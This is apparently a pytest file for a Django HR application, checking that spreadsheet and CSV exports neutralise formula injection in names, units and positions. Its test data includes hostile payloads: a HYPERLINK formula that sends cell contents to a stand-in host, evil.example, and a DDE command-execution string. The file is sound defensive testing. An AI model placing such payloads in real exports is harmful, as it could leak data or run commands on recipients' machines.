"""Spreadsheet formula injection: text a person typed (a name, a unit, a
position) never reaches Excel as a live formula; numbers stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cadres.export_cells import neutralise
from tests.factories import make_cadre, make_unit

from .conftest import complete, fetch_export

pytestmark = pytest.mark.django_db

# At most 50 characters: the given-name column's length (PostgreSQL enforces it).
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
DANGEROUS = [EVIL_NAME, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_starting_with_a_formula_character_is_prefixed_with_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-5, 0, 12, -1.5, Decimal("-2.50"), None, True])
def test_numbers_and_empty_cells_are_left_alone(value):
    assert neutralise(value) is value


@pytest.mark.parametrize("text", ["-5", "-1.5", "+84", "-0,5", "Nguyễn Thị Hoa", "", "05818"])
def test_plain_text_and_numbers_written_as_text_are_left_alone(text):
    assert neutralise(text) == text


def test_dates_are_left_alone():
    day = dt.date(2025, 8, 1)
    assert neutralise(day) is day


@pytest.fixture
def hostile(tree, courses, programme, target):
    evil_unit = make_unit("=1+2 Ban xóm độc", parent=tree["la_bang"])
    cadre = make_cadre(
        evil_unit, family_name="=HYPERLINK(", given_name='"http://evil.example/?"&A1)'
    )
    cadre.family_name, cadre.given_name = "", EVIL_NAME
    cadre.save(update_fields=["family_name", "given_name"])
    make_cadre(tree["la_bang"], family_name="Nguyễn Thị", given_name="Hoa", position="@Trưởng ban")
    complete(cadre, courses[0], dt.date(2025, 8, 1))
    return {"unit": evil_unit, "cadre": cadre}


def _query(programme):
    return {"programme": programme.pk, "as_of": "31/12/2025"}


def _cells(book):
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _assert_no_live_formula(cells):
    assert cells
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell.value


def test_cadre_list_xlsx_holds_no_formula(client, hr_province, hostile, programme):
    client.force_login(hr_province)
    url = reverse("reports:unit_cadres_xlsx", args=[hr_province.scope_unit_id])
    book = load_workbook(io.BytesIO(client.get(url, _query(programme)).content))
    cells = _cells(book)
    _assert_no_live_formula(cells)
    values = [c.value for c in cells]
    assert "'" + EVIL_NAME in values
    assert "'@Trưởng ban" in values


def test_report_xlsx_holds_no_formula_and_keeps_numbers(client, hr_province, hostile, programme):
    client.force_login(hr_province)
    book = load_workbook(io.BytesIO(fetch_export(client, "xlsx", _query(programme))))
    cells = _cells(book)
    _assert_no_live_formula(cells)
    assert "'=1+2 Ban xóm độc" in [c.value for c in cells]
    level1 = list(book["Cấp 1"].iter_rows(values_only=True))
    assert isinstance(level1[1][4], int)  # cadres in scope is still a number


def test_report_csv_holds_no_formula(client, hr_province, hostile, programme):
    client.force_login(hr_province)
    text = fetch_export(client, "csv", _query(programme)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for value in row:
            assert value[:1] not in ("=", "+", "@", "\t", "\r"), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()
    assert any("'=1+2 Ban xóm độc" in row for row in rows)
